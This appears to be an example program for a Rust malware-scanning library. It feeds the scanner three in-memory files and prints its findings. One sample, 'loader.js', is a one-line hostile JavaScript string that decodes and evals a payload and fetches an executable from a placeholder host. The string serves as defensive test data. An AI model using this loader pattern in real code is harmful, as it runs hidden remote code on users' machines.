/// Simple example demonstrating how to use the scanner library

use anyhow::Result;
use zerothreat::{analyze, MemoryFile};

fn main() -> Result<()> {
    let samples = vec![
        MemoryFile::new("notes.txt", "Quarterly planning notes"),
        MemoryFile::new("holiday.png", vec![0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10]),
        MemoryFile::new(
            "loader.js",
            "var s = atob(payload); eval(s); fetch('https://cdn.example/update.exe');",
        ),
    ];

    for sample in &samples {
        let result = analyze(sample);
        println!("{} -> {} (score {})", result.name, result.level, result.score);
        for finding in &result.findings {
            println!("  - {}", finding);
        }
    }

    Ok(())
}
